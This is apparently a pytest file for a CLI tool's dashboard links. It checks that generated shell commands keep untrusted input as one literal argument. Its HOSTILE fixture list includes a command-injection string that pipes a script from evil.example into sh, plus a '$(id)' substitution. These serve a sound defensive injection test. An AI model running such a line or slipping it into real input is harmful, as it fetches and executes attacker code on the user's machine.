import shlex
from typing import Any

import pytest
import typer.main

from commands.command_line import build_app
from dashboard.links import api_command, dataset_path, lag_command, peek_command, trace_command

HOSTILE = ("CUST001", "x; curl evil.example|sh #", "it's", "-x", "$(id)", "a b\nc", "--help")


def parsed(line: str) -> dict[str, Any]:
    """The parameters that our own command line makes of a line as a shell takes it apart."""
    program, *arguments = shlex.split(line)
    assert program == "headrace"
    command: Any = typer.main.get_command(build_app(arguments))
    while hasattr(command, "commands"):
        command, arguments = command.commands[arguments[0]], arguments[1:]
    parameters: dict[str, Any] = command.make_context(command.name, arguments).params
    return parameters


@pytest.mark.parametrize("strange", HOSTILE)
def test_commands_to_copy_exist_and_take_what_a_stranger_wrote_as_text(strange: str) -> None:
    traced = parsed(trace_command("customers", strange))
    assert (traced["dataset"], traced["key"]) == ("customers", strange)
    watched = parsed(lag_command(strange))
    assert (watched["group"], watched["watch"]) == (strange, True)
    peeked = parsed(peek_command(strange, {"key": strange, "from": "-10"}))
    assert (peeked["topic"], peeked["key"], peeked["start"]) == (strange, strange, "-10")
    assert shlex.split(api_command("http://api/", f"/{strange}")) == ["curl", "-s", f"http://api/{strange}"]


def test_a_datasets_name_stays_one_parameter() -> None:
    assert dataset_path("a&q=b") == "/data?dataset=a%26q%3Db"
